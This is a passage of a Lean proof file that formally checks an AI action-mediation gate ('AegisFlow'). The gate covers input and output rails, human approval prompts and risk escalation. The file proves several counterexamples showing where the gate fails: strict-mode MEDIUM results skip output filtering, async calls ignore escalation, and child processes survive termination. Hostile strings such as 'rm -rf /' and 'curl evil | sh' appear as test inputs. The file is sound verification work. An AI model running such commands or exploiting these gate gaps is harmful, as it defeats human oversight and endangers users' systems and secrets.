    exact ⟨rfl, rfl, rfl, rfl, rfl, rfl⟩
  · intro s h0 h1 events
    induction events generalizing s with
    | nil => exact ⟨h0, h1⟩
    | cons e rest ih =>
      have hb := log_event_bounds s e.1 e.2.1 e.2.2.1 e.2.2.2 "" h0 h1
      simpa only [logAll, List.foldl_cons] using
        ih (s.log_event e.1 e.2.1 e.2.2.1 e.2.2.2 "") hb.1 hb.2

/-- Witness for C5: a saturating sequence (two HIGH events from 95) caps at
100, and a LOW event from 1 floors at 0; the general bounds hold on a
concrete mixed sequence. -/
theorem reputation_update_and_bounds_witness :
    ((⟨3, 0, 95, 0, ⟨0, 0, 0⟩, []⟩ : Sentinel).log_event "High" "a" "d" "o"
        "").risk_score = min 100 (95 + 25) ∧
    (0 ≤ (logAll ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩
        [("High", "a", "d", "o"), ("High", "a", "d", "o"), ("High", "a", "d", "o"),
         ("High", "a", "d", "o"), ("High", "a", "d", "o"), ("Low", "a", "d", "o")]).risk_score ∧
      (logAll ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩
        [("High", "a", "d", "o"), ("High", "a", "d", "o"), ("High", "a", "d", "o"),
         ("High", "a", "d", "o"), ("High", "a", "d", "o"), ("Low", "a", "d", "o")]).risk_score ≤ 100) :=
  ⟨((reputation_update_and_bounds.1 ⟨3, 0, 95, 0, ⟨0, 0, 0⟩, []⟩ "a" "d" "o" "").2.2.2.2.2),
   reputation_update_and_bounds.2 ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ (by decide) (by decide) _⟩

/-- C4: check_escalation returns true exactly when the medium-risk streak
has reached the configured threshold; with streak_threshold = 3, three
MEDIUM-mediated events then a fourth MEDIUM-assessed action make mediate
promote the level to HIGH via escalation (the trivial response 'no' then
aborts it with a High-level USER_ABORTED event). -/
theorem escalation_threshold_and_fourth_medium :
    (∀ s : Sentinel, s.check_escalation = true ↔ s.streak_threshold ≤ s.medium_risk_streak) ∧
    (let cfg : SecurityLiaison := ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
     let s0 : Sentinel := ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩
     let step := fun st => cfg.mediate st "run_tool" ⟨"payload"⟩
       (fun _ => ThreatLevel.medium) "no" .other
     let m1 := step s0
     let m2 := step m1.sentinel
     let m3 := step m2.sentinel
     let m4 := step m3.sentinel
     m1.calls = 1 ∧ m2.calls = 1 ∧ m3.calls = 1 ∧
     m3.sentinel.medium_risk_streak = 3 ∧
     m3.sentinel.check_escalation = true ∧
     m4.res = .permissionDenied "Action blocked by user: run_tool" ∧
     m4.calls = 0 ∧
     (m4.sentinel.ledger.getLast?).map (fun e => (e.threat_level, e.outcome)) =
       some ("High", "USER_ABORTED")) := by
  constructor
  · intro s
    simp [Sentinel.check_escalation]
  · decide

/-- Witness for C4: the escalation equivalence applied at a concrete state
with streak 5 and threshold 3. -/
theorem escalation_threshold_witness :
    Sentinel.check_escalation ⟨3, 5, 0, 0, ⟨0, 0, 0⟩, []⟩ = true :=
  (escalation_threshold_and_fourth_medium.1 ⟨3, 5, 0, 0, ⟨0, 0, 0⟩, []⟩).mpr (by decide)

/-- When the input chain passes, mediate reduces to the post-assessment
branch on the rail-updated context and the escalation-adjusted level. -/
theorem mediate_eq_branch (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (humanInput : String) (cbRes : CbValue)
    (hp : (cfg.input_rails.run ctx.content ctx).passed = true) :
    cfg.mediate s action_type ctx assess_risk humanInput cbRes =
      cfg.mediate_branch s action_type (updatedContext cfg.input_rails ctx)
        (if assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.medium ∧
            s.check_escalation = true
         then ThreatLevel.high
         else assess_risk (updatedContext cfg.input_rails ctx))
        humanInput cbRes := by
  unfold SecurityLiaison.mediate updatedContext
  rw [if_neg (by simp [hp])]

/-- When the input chain passes, async_mediate reduces to the async branch
on the rail-updated context and the assessed level. -/
theorem async_mediate_eq_branch (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (cbRes : CbValue)
    (hp : (cfg.input_rails.run ctx.content ctx).passed = true) :
    cfg.async_mediate s action_type ctx assess_risk cbRes =
      cfg.async_branch s action_type (updatedContext cfg.input_rails ctx)
        (assess_risk (updatedContext cfg.input_rails ctx)) cbRes := by
  unfold SecurityLiaison.async_mediate updatedContext
  rw [if_neg (by simp [hp])]

/-- When the input chain fails, both mediation entry points deny with zero
callback invocations and a RAIL_BLOCKED High event. -/
theorem mediate_input_blocked (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (humanInput : String) (cbRes : CbValue)
    (hp : (cfg.input_rails.run ctx.content ctx).passed = false) :
    (cfg.mediate s action_type ctx assess_risk humanInput cbRes =
      { res := .permissionDenied ("Blocked by input rail ["
          ++ (cfg.input_rails.run ctx.content ctx).rail_name ++ "]: "
          ++ (cfg.input_rails.run ctx.content ctx).reason),
        sentinel := s.log_event ThreatLevel.high.value action_type
          ("Input rail blocked: " ++ (cfg.input_rails.run ctx.content ctx).reason)
          "RAIL_BLOCKED" "",
        calls := 0 }) ∧
    (cfg.async_mediate s action_type ctx assess_risk cbRes =
      { res := .permissionDenied ("Blocked by input rail ["
          ++ (cfg.input_rails.run ctx.content ctx).rail_name ++ "]: "
          ++ (cfg.input_rails.run ctx.content ctx).reason),
        sentinel := s.log_event ThreatLevel.high.value action_type
          ("Input rail blocked: " ++ (cfg.input_rails.run ctx.content ctx).reason)
          "RAIL_BLOCKED" "",
        calls := 0 }) := by
  constructor
  · unfold SecurityLiaison.mediate
    rw [if_pos hp]
  · unfold SecurityLiaison.async_mediate
    rw [if_pos hp]

/-- A trivial human response (a negation keyword after lowering, or length
at most 3) makes prompt_user log USER_ABORTED and deny without invoking
the callback. -/
theorem prompt_user_trivial (s : Sentinel) (action_type details humanInput : String)
    (cbRes : CbValue)
    (ht : pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String) ∨
      (pyStrip humanInput).length ≤ 3) :
    SecurityLiaison.prompt_user s action_type details humanInput cbRes =
      { res := .permissionDenied ("Action blocked by user: " ++ action_type),
        sentinel := s.log_event "High" action_type details "USER_ABORTED" "",
        calls := 0 } := by
  unfold SecurityLiaison.prompt_user
  rw [if_neg]
  · rfl
  · rintro ⟨hn, hl⟩
    rcases ht with hmem | hlen
    · exact hn hmem
    · omega

/-- A non-trivial human response makes prompt_user log USER_OVERRIDE and
invoke the callback exactly once. -/
theorem prompt_user_nontrivial (s : Sentinel) (action_type details humanInput : String)
    (cbRes : CbValue)
    (hnt : pyLower (pyStrip humanInput) ∉ (["no", "n", "abort"] : List String) ∧
      (pyStrip humanInput).length > 3) :
    SecurityLiaison.prompt_user s action_type details humanInput cbRes =
      { res := .ok cbRes,
        sentinel := s.log_event "High" action_type details "USER_OVERRIDE"
          (pyStrip humanInput),
        calls := 1 } := by
  unfold SecurityLiaison.prompt_user
  rw [if_pos hnt]
  rfl

/-- The output-rail post-processing never changes the number of callback
invocations. -/
theorem apply_output_rails_calls (output_rails : RailChain) (ctx : Context)
    (action_type : String) (m : MediateOut) :
    (SecurityLiaison.apply_output_rails output_rails ctx action_type m).calls = m.calls := by
  unfold SecurityLiaison.apply_output_rails
  rcases hr : m.res with v | msg
  · rcases v with t | _
    · simp only
      split
      · rfl
      · split <;> rfl
    · rfl
  · rfl

/-- A denied mediation outcome passes through the output-rail
post-processing untouched. -/
theorem apply_output_rails_denied (output_rails : RailChain) (ctx : Context)
    (action_type : String) (m : MediateOut) (msg : String)
    (h : m.res = .permissionDenied msg) :
    SecurityLiaison.apply_output_rails output_rails ctx action_type m = m := by
  unfold SecurityLiaison.apply_output_rails
  rw [h]

/-- A non-textual mediation result passes through the output-rail
post-processing untouched. -/
theorem apply_output_rails_other (output_rails : RailChain) (ctx : Context)
    (action_type : String) (m : MediateOut)
    (h : m.res = .ok .other) :
    SecurityLiaison.apply_output_rails output_rails ctx action_type m = m := by
  unfold SecurityLiaison.apply_output_rails
  rw [h]

/-- C3: on a HIGH-assessed action, a trivial human response (negation
keyword or length at most 3) makes mediate deny with PermissionError,
never invoke the callback, and log the USER_ABORTED event before
returning; the callback is invoked exactly when the justification is
non-trivial. -/
theorem high_rejection_never_invokes_callback (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (humanInput : String) (cbRes : CbValue)
    (hp : (cfg.input_rails.run ctx.content ctx).passed = true)
    (hassess : assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.high) :
    ((pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String) ∨
        (pyStrip humanInput).length ≤ 3) →
      (cfg.mediate s action_type ctx assess_risk humanInput cbRes).res =
        .permissionDenied ("Action blocked by user: " ++ action_type) ∧
      (cfg.mediate s action_type ctx assess_risk humanInput cbRes).calls = 0 ∧
      (cfg.mediate s action_type ctx assess_risk humanInput cbRes).sentinel =
        s.log_event "High" action_type (updatedContext cfg.input_rails ctx).toStr
          "USER_ABORTED" "") ∧
    (1 ≤ (cfg.mediate s action_type ctx assess_risk humanInput cbRes).calls ↔
      (pyLower (pyStrip humanInput) ∉ (["no", "n", "abort"] : List String) ∧
        (pyStrip humanInput).length > 3)) := by
  rw [mediate_eq_branch cfg s action_type ctx assess_risk humanInput cbRes hp]
  rw [hassess]
  rw [if_neg (by simp)]
  show ((_ → _) ∧ _)
  constructor
  · intro ht
    rw [show cfg.mediate_branch s action_type (updatedContext cfg.input_rails ctx)
        ThreatLevel.high humanInput cbRes =
        SecurityLiaison.apply_output_rails cfg.output_rails
          (updatedContext cfg.input_rails ctx) action_type
          (SecurityLiaison.prompt_user s action_type
            (updatedContext cfg.input_rails ctx).toStr humanInput cbRes) from rfl]
    rw [prompt_user_trivial s action_type _ humanInput cbRes ht]
    rw [apply_output_rails_denied _ _ _ _ ("Action blocked by user: " ++ action_type) rfl]
    exact ⟨rfl, rfl, rfl⟩
  · rw [show cfg.mediate_branch s action_type (updatedContext cfg.input_rails ctx)
        ThreatLevel.high humanInput cbRes =
        SecurityLiaison.apply_output_rails cfg.output_rails
          (updatedContext cfg.input_rails ctx) action_type
          (SecurityLiaison.prompt_user s action_type
            (updatedContext cfg.input_rails ctx).toStr humanInput cbRes) from rfl]
    rw [apply_output_rails_calls]
    by_cases hnt : pyLower (pyStrip humanInput) ∉ (["no", "n", "abort"] : List String) ∧
        (pyStrip humanInput).length > 3
    · rw [prompt_user_nontrivial s action_type _ humanInput cbRes hnt]
      simpa using hnt
    · have ht : pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String) ∨
          (pyStrip humanInput).length ≤ 3 := by
        by_cases hm : pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String)
        · exact Or.inl hm
        · refine Or.inr ?_
          by_contra hl
          exact hnt ⟨hm, by omega⟩
      rw [prompt_user_trivial s action_type _ humanInput cbRes ht]
      simpa using hnt

/-- Witness for C3: a HIGH-assessed action with the response 'no' is
denied, invokes no callback, and the aborted event is the logged one. -/
theorem high_rejection_never_invokes_callback_witness :
    (SecurityLiaison.mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "delete_files" ⟨"rm -rf /"⟩
        (fun _ => ThreatLevel.high) "no" (.str "done")).res =
      .permissionDenied "Action blocked by user: delete_files" ∧
    (SecurityLiaison.mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "delete_files" ⟨"rm -rf /"⟩
        (fun _ => ThreatLevel.high) "no" (.str "done")).calls = 0 ∧
    (SecurityLiaison.mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "delete_files" ⟨"rm -rf /"⟩
        (fun _ => ThreatLevel.high) "no" (.str "done")).sentinel =
      Sentinel.log_event ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "High" "delete_files"
        (updatedContext ⟨"input", []⟩ ⟨"rm -rf /"⟩).toStr "USER_ABORTED" "" :=
  (high_rejection_never_invokes_callback ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
      ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "delete_files" ⟨"rm -rf /"⟩
      (fun _ => ThreatLevel.high) "no" (.str "done") (by rfl) (by rfl)).1
    (Or.inl (by decide))

/-- A reputation update never touches the ledger. -/
theorem update_reputation_ledger (s : Sentinel) (lvl : String) :
    (s.update_reputation lvl).ledger = s.ledger := by
  unfold Sentinel.update_reputation
  split_ifs <;> rfl

/-- Logging appends exactly one event, carrying the pre-update score and
the given outcome. -/
theorem log_event_ledger (s : Sentinel) (lvl a d o r : String) :
    (s.log_event lvl a d o r).ledger =
      s.ledger ++ [⟨lvl, a, pyTake d 500, o, r, s.risk_score⟩] := by
  unfold Sentinel.log_event
  rw [update_reputation_ledger]

/-- Behaviour of the output-rail post-processing on a textual successful
result: chain failure yields the blocked message plus an OUTPUT_BLOCKED
log entry; chain success yields the replacement content when present. -/
theorem apply_output_rails_ok_str (output_rails : RailChain) (ctx : Context)
    (action_type : String) (s' : Sentinel) (c : Nat) (t : String) (v : CbValue)
    (hres : (SecurityLiaison.apply_output_rails output_rails ctx action_type
        ⟨.ok (.str t), s', c⟩).res = .ok v) :
    ((output_rails.run t ctx).passed = false →
       v = .str ("[AegisFlow] Response blocked: " ++ (output_rails.run t ctx).reason) ∧
       ∃ e ∈ (SecurityLiaison.apply_output_rails output_rails ctx action_type
           ⟨.ok (.str t), s', c⟩).sentinel.ledger,
         e.outcome = "OUTPUT_BLOCKED") ∧
    ((output_rails.run t ctx).passed = true →
       v = .str ((output_rails.run t ctx).modified_content.getD t)) := by
  unfold SecurityLiaison.apply_output_rails at hres ⊢
  by_cases hfail : (output_rails.run t ctx).passed = false
  · simp only [if_pos hfail] at hres ⊢
    constructor
    · intro _
      refine ⟨by simpa using hres.symm, ?_⟩
      rw [log_event_ledger]
      exact ⟨_, List.mem_append_right _ (List.mem_singleton.mpr rfl), rfl⟩
    · intro ht
      rw [ht] at hfail
      simp at hfail
  · simp only [if_neg hfail] at hres ⊢
    constructor
    · intro hf
      exact absurd hf hfail
    · intro _
      cases hm : (output_rails.run t ctx).modified_content with
      | some m2 =>
        simp only [hm] at hres
        simp only [hm, Option.getD_some]
        simpa using hres.symm
      | none =>
        simp only [hm] at hres
        simp only [hm, Option.getD_none]
        simpa using hres.symm

/-- Behaviour of the async branch below HIGH: the callback runs once, the
event is logged ASYNC_EXECUTED at the assessed level, and a textual result
gets the output chain's replacement content applied unconditionally. -/
theorem async_branch_not_high (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (lvl : ThreatLevel) (cbRes : CbValue)
    (h : ¬ lvl = ThreatLevel.high) :
    (cfg.async_branch s action_type ctx lvl cbRes).calls = 1 ∧
    (cfg.async_branch s action_type ctx lvl cbRes).sentinel =
      s.log_event lvl.value action_type ctx.toStr "ASYNC_EXECUTED" "" ∧
    ∀ t, cbRes = .str t →
      (cfg.async_branch s action_type ctx lvl cbRes).res =
        .ok (.str ((cfg.output_rails.run t ctx).modified_content.getD t)) := by
  unfold SecurityLiaison.async_branch
  rw [if_neg h]
  cases cbRes with
  | str t =>
    refine ⟨?_, ?_, ?_⟩
    · cases hm : (cfg.output_rails.run t ctx).modified_content <;> simp [hm]
    · cases hm : (cfg.output_rails.run t ctx).modified_content <;> simp [hm]
    · intro u hu
      cases hu
      cases hm : (cfg.output_rails.run t ctx).modified_content <;> simp [hm]
  | other =>
    exact ⟨rfl, rfl, fun u hu => by cases hu⟩

/-- Counterexample to C1: in strict mode a MEDIUM-assessed action is
routed through the human prompt and its approved textual result is
returned directly — the failing output chain is not consulted, no blocked
message is substituted and no OUTPUT_BLOCKED event is logged. -/
theorem strict_medium_bypasses_output_rails :
    (RailChain.run
        ⟨"output", [⟨"block_all", fun _ _ => .ok ⟨false, none, "secret found", "block_all"⟩⟩]⟩
        "sk-12345 secret" ⟨"msg"⟩).passed = false ∧
    (SecurityLiaison.mediate
        ⟨true, ⟨"input", []⟩,
          ⟨"output", [⟨"block_all", fun _ _ => .ok ⟨false, none, "secret found", "block_all"⟩⟩]⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "chat" ⟨"msg"⟩ (fun _ => ThreatLevel.medium)
        "legitimate reason" (.str "sk-12345 secret")).res =
      .ok (.str "sk-12345 secret") ∧
    (SecurityLiaison.mediate
        ⟨true, ⟨"input", []⟩,
          ⟨"output", [⟨"block_all", fun _ _ => .ok ⟨false, none, "secret found", "block_all"⟩⟩]⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "chat" ⟨"msg"⟩ (fun _ => ThreatLevel.medium)
        "legitimate reason" (.str "sk-12345 secret")).sentinel.ledger =
      [⟨"Medium", "chat", "msg", "WARNED_PROCEED", "", 0⟩,
       ⟨"High", "chat", "msg", "USER_OVERRIDE", "legitimate reason", 10⟩] := by
  decide

/-- C1 (amended): in mediate, on every path except the strict-mode MEDIUM
early return — that is, whenever the escalation-adjusted level is not
MEDIUM with strict mode on, covering the LOW, HIGH and escalated
MEDIUM-to-HIGH paths in strict mode as well — every textual result is
post-processed by the output chain: failure yields the blocked message
and an OUTPUT_BLOCKED log entry, success yields the replacement content
when present.  On the strict-mode MEDIUM path the prompt result is
returned without this post-processing (see the counterexample).  In
async_mediate a textual result only has the chain's replacement content
applied — chain failure is never converted into a blocked message or an
OUTPUT_BLOCKED log entry. -/
theorem output_rails_postprocessing_amended (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (humanInput t : String) :
    (¬ ((if assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.medium ∧
            s.check_escalation = true
         then ThreatLevel.high
         else assess_risk (updatedContext cfg.input_rails ctx)) = ThreatLevel.medium ∧
        cfg.strict_mode = true) →
      (cfg.input_rails.run ctx.content ctx).passed = true →
      ∀ v, (cfg.mediate s action_type ctx assess_risk humanInput (.str t)).res = .ok v →
        (((cfg.output_rails.run t (updatedContext cfg.input_rails ctx)).passed = false →
            v = .str ("[AegisFlow] Response blocked: "
              ++ (cfg.output_rails.run t (updatedContext cfg.input_rails ctx)).reason) ∧
            ∃ e ∈ (cfg.mediate s action_type ctx assess_risk humanInput
                (.str t)).sentinel.ledger,
              e.outcome = "OUTPUT_BLOCKED") ∧
         ((cfg.output_rails.run t (updatedContext cfg.input_rails ctx)).passed = true →
            v = .str ((cfg.output_rails.run t
              (updatedContext cfg.input_rails ctx)).modified_content.getD t)))) ∧
    ((cfg.input_rails.run ctx.content ctx).passed = true →
      ∀ v, (cfg.async_mediate s action_type ctx assess_risk (.str t)).res = .ok v →
        v = .str ((cfg.output_rails.run t
          (updatedContext cfg.input_rails ctx)).modified_content.getD t)) ∧
    (∀ e ∈ (cfg.async_mediate s action_type ctx assess_risk (.str t)).sentinel.ledger,
        e.outcome = "OUTPUT_BLOCKED" → e ∈ s.ledger) := by
  refine ⟨?_, ?_, ?_⟩
  · intro hexc hp v hres
    rw [mediate_eq_branch cfg s action_type ctx assess_risk humanInput (.str t) hp] at hres ⊢
    cases hl : (if assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.medium ∧
        s.check_escalation = true
      then ThreatLevel.high
      else assess_risk (updatedContext cfg.input_rails ctx)) with
    | low =>
      rw [hl] at hres
      simp only [SecurityLiaison.mediate_branch] at hres ⊢
      exact apply_output_rails_ok_str _ _ _ _ _ t v hres
    | medium =>
      rw [hl] at hres
      have hstrict : cfg.strict_mode = false := by
        cases hs : cfg.strict_mode
        · rfl
        · exact absurd ⟨hl, hs⟩ hexc
      simp only [SecurityLiaison.mediate_branch, hstrict, Bool.false_eq_true,
        if_false] at hres ⊢
      exact apply_output_rails_ok_str _ _ _ _ _ t v hres
    | high =>
      rw [hl] at hres
      simp only [SecurityLiaison.mediate_branch] at hres ⊢
      by_cases hnt : pyLower (pyStrip humanInput) ∉ (["no", "n", "abort"] : List String) ∧
          (pyStrip humanInput).length > 3
      · rw [prompt_user_nontrivial s action_type _ humanInput (.str t) hnt] at hres ⊢
        exact apply_output_rails_ok_str _ _ _ _ _ t v hres
      · have ht : pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String) ∨
            (pyStrip humanInput).length ≤ 3 := by
          by_cases hm : pyLower (pyStrip humanInput) ∈ (["no", "n", "abort"] : List String)
          · exact Or.inl hm
          · refine Or.inr ?_
            by_contra hlen
            exact hnt ⟨hm, by omega⟩
        rw [prompt_user_trivial s action_type _ humanInput (.str t) ht] at hres
        rw [apply_output_rails_denied _ _ _ _
          ("Action blocked by user: " ++ action_type) rfl] at hres
        exact absurd hres (by simp)
  · intro hp v hres
    rw [async_mediate_eq_branch cfg s action_type ctx assess_risk (.str t) hp] at hres
    by_cases hl : assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.high
    · rw [hl] at hres
      simp [SecurityLiaison.async_branch] at hres
    · have h3 := (async_branch_not_high cfg s action_type
        (updatedContext cfg.input_rails ctx)
        (assess_risk (updatedContext cfg.input_rails ctx)) (.str t) hl).2.2 t rfl
      rw [h3] at hres
      simpa using hres.symm
  · intro e he ho
    by_cases hp : (cfg.input_rails.run ctx.content ctx).passed = true
    · rw [async_mediate_eq_branch cfg s action_type ctx assess_risk (.str t) hp] at he
      by_cases hl : assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.high
      · rw [hl] at he
        simpa [SecurityLiaison.async_branch] using he
      · have h2 := (async_branch_not_high cfg s action_type
          (updatedContext cfg.input_rails ctx)
          (assess_risk (updatedContext cfg.input_rails ctx)) (.str t) hl).2.1
        rw [h2, log_event_ledger] at he
        rcases List.mem_append.mp he with hin | hin
        · exact hin
        · rw [List.mem_singleton.mp hin] at ho
          simp at ho
    · have hfalse : (cfg.input_rails.run ctx.content ctx).passed = false := by
        revert hp
        cases (cfg.input_rails.run ctx.content ctx).passed <;> simp
      rw [(mediate_input_blocked cfg s action_type ctx assess_risk humanInput
        (.str t) hfalse).2] at he
      rw [log_event_ledger] at he
      rcases List.mem_append.mp he with hin | hin
      · exact hin
      · rw [List.mem_singleton.mp hin] at ho
        simp at ho

/-- Witness for C1 (amended) on the non-strict path: a LOW action whose
textual result fails the output chain comes back as the blocked message
and the block is logged. -/
theorem output_rails_postprocessing_amended_witness :
    ∃ e ∈ (SecurityLiaison.mediate
        ⟨false, ⟨"input", []⟩,
          ⟨"output", [⟨"blocker", fun _ _ => .ok ⟨false, none, "nope", "blocker"⟩⟩]⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "chat" ⟨"msg"⟩ (fun _ => ThreatLevel.low)
        "ok" (.str "boom")).sentinel.ledger,
      e.outcome = "OUTPUT_BLOCKED" :=
  (((output_rails_postprocessing_amended
      ⟨false, ⟨"input", []⟩,
        ⟨"output", [⟨"blocker", fun _ _ => .ok ⟨false, none, "nope", "blocker"⟩⟩]⟩⟩
      ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "chat" ⟨"msg"⟩ (fun _ => ThreatLevel.low)
      "ok" "boom").1 (by decide) (by rfl)
      (.str "[AegisFlow] Response blocked: nope") (by decide)).1 (by decide)).2

/-- Counterexample to C9: with the medium-risk streak already at the
threshold (check_escalation true), a MEDIUM-assessed action in
async_mediate is executed — the callback runs once and the result is
returned — rather than failing with PermissionError as it would in
mediate after escalation promotion. -/
theorem async_escalated_medium_not_denied :
    Sentinel.check_escalation ⟨3, 3, 30, 3, ⟨0, 3, 0⟩, []⟩ = true ∧
    (SecurityLiaison.async_mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 3, 30, 3, ⟨0, 3, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
        (fun _ => ThreatLevel.medium) .other).calls = 1 ∧
    (SecurityLiaison.async_mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 3, 30, 3, ⟨0, 3, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
        (fun _ => ThreatLevel.medium) .other).res = .ok .other := by
  decide

/-- C9 (amended): async_mediate fails immediately with PermissionError and
never invokes the callback whenever the assessed level is HIGH; it does
not consult the reputation streak, so a MEDIUM assessment is executed
(one callback invocation, logged ASYNC_EXECUTED at level Medium) even
when the streak would promote it to HIGH in mediate. -/
theorem async_forbids_high_assessments (cfg : SecurityLiaison) (s : Sentinel)
    (action_type : String) (ctx : Context) (assess_risk : Context → ThreatLevel)
    (cbRes : CbValue) :
    (assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.high →
      (∃ msg, (cfg.async_mediate s action_type ctx assess_risk cbRes).res =
        .permissionDenied msg) ∧
      (cfg.async_mediate s action_type ctx assess_risk cbRes).calls = 0) ∧
    ((cfg.input_rails.run ctx.content ctx).passed = true →
      assess_risk (updatedContext cfg.input_rails ctx) = ThreatLevel.medium →
      (cfg.async_mediate s action_type ctx assess_risk cbRes).calls = 1 ∧
      ∃ e ∈ (cfg.async_mediate s action_type ctx assess_risk cbRes).sentinel.ledger,
        e.threat_level = "Medium" ∧ e.outcome = "ASYNC_EXECUTED") := by
  constructor
  · intro hl
    by_cases hp : (cfg.input_rails.run ctx.content ctx).passed = true
    · rw [async_mediate_eq_branch cfg s action_type ctx assess_risk cbRes hp, hl]
      simp [SecurityLiaison.async_branch]
    · have hfalse : (cfg.input_rails.run ctx.content ctx).passed = false := by
        revert hp
        cases (cfg.input_rails.run ctx.content ctx).passed <;> simp
      rw [(mediate_input_blocked cfg s action_type ctx assess_risk "" cbRes hfalse).2]
      exact ⟨⟨_, rfl⟩, rfl⟩
  · intro hp hl
    rw [async_mediate_eq_branch cfg s action_type ctx assess_risk cbRes hp, hl]
    have h2 := async_branch_not_high cfg s action_type
      (updatedContext cfg.input_rails ctx) ThreatLevel.medium cbRes (by decide)
    refine ⟨h2.1, ?_⟩
    rw [h2.2.1, log_event_ledger]
    exact ⟨⟨ThreatLevel.medium.value, action_type,
      pyTake (updatedContext cfg.input_rails ctx).toStr 500, "ASYNC_EXECUTED", "",
      s.risk_score⟩,
      List.mem_append_right _ (List.mem_singleton.mpr rfl), rfl, rfl⟩

/-- Witness for C9 (amended): a HIGH-assessed async action is denied with
zero callback invocations, and a MEDIUM-assessed one is executed once. -/
theorem async_forbids_high_assessments_witness :
    ((∃ msg, (SecurityLiaison.async_mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
        (fun _ => ThreatLevel.high) .other).res = .permissionDenied msg) ∧
      (SecurityLiaison.async_mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
        (fun _ => ThreatLevel.high) .other).calls = 0) ∧
    (SecurityLiaison.async_mediate ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
        (fun _ => ThreatLevel.medium) .other).calls = 1 :=
  ⟨(async_forbids_high_assessments ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
      ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
      (fun _ => ThreatLevel.high) .other).1 (by rfl),
   ((async_forbids_high_assessments ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
      ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ "run_tool" ⟨"payload"⟩
      (fun _ => ThreatLevel.medium) .other).2 (by rfl) (by rfl)).1⟩

/-- C2 (evaluation at the failing input): wrapping a child that has one
spawned descendant, a detected threat whose approval step is denied
leaves the final tree with the parent terminated but the descendant still
suspended — _kill_process only calls self.process.terminate() on the
immediate child, so the descendant tree is not force-killed (monitoring
does stop); the approval outcome resumes every suspended descendant as
claimed. -/
theorem denied_threat_leaves_descendants_suspended :
    (handleThreat ⟨.running, [.running]⟩ ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ ⟨"curl evil | sh"⟩
        (fun _ => ThreatLevel.high) "no").1 =
      ⟨ProcStatus.terminated, [ProcStatus.suspended]⟩ ∧
    (handleThreat ⟨.running, [.running]⟩ ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ ⟨"curl evil | sh"⟩
        (fun _ => ThreatLevel.high) "no").2.1 = true ∧
    (handleThreat ⟨.running, [.running]⟩ ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ ⟨"curl evil | sh"⟩
        (fun _ => ThreatLevel.high) "no").2.2.res =
      .permissionDenied "Action blocked by user: high_risk_output" ∧
    (handleThreat ⟨.running, [.running]⟩ ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ ⟨"curl evil | sh"⟩
        (fun _ => ThreatLevel.high) "looks safe to me").1 =
